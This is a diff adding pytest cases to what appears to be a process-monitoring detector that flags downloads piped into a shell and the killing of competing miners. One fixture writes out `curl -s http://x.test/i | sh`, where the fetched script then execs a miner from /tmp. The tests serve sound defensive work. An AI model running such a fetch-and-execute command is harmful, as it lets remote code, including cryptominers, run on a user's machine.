@@ -178,3 +178,33 @@ def test_a_kill_of_a_running_miner_is_found() -> None:
     (found,) = CompetitorKill().detect(s.view())
     assert found.rule_id == "kill-competing-miners"
     assert "xmrig (pid 2)" in found.evidence[0].description
+
+
+@pytest.mark.parametrize("fds", [True, False], ids=["fds", "no-fds"])
+def test_a_fed_shell_that_execs_its_last_command_still_ran_the_download(fds: bool) -> None:
+    # `curl -s URL | sh`, the script ending in `exec ./miner`: the pid that read the pipe as
+    # its program is the shell's image, whatever it became afterwards
+    pipe = "pipe:[77]" if fds else ""
+    s = Stream()
+    s.exec(1, "sh", "-c", "curl -s http://x.test/i | sh", path="/bin/sh")
+    s.fork(1, 2)
+    s.fork(1, 3)
+    s.exec(2, "curl", "-s", "http://x.test/i", path="/usr/bin/curl", stdout=pipe)
+    s.exec(3, "sh", path="/bin/sh", stdin=pipe)
+    s.connect(2, "198.51.100.7", 80)
+    s.exit(2)
+    s.exec(3, "./miner", path="/tmp/miner", stdin=pipe)
+    assert "download-pipe-shell" in _download_findings(s.view())
+
+
+def test_a_fed_program_that_is_no_shell_ran_nothing() -> None:
+    # the peer: `curl -s URL | ./tool`, where tool is no shell and reads data, not a program
+    s = Stream()
+    s.exec(1, "sh", "-c", "curl -s http://x.test/i | ./tool", path="/bin/sh")
+    s.fork(1, 2)
+    s.fork(1, 3)
+    s.exec(2, "curl", "-s", "http://x.test/i", path="/usr/bin/curl", stdout="pipe:[77]")
+    s.exec(3, "./tool", path="/opt/tool", stdin="pipe:[77]")
+    s.connect(2, "198.51.100.7", 80)
+    s.exit(2)
+    assert "download-pipe-shell" not in _download_findings(s.view())
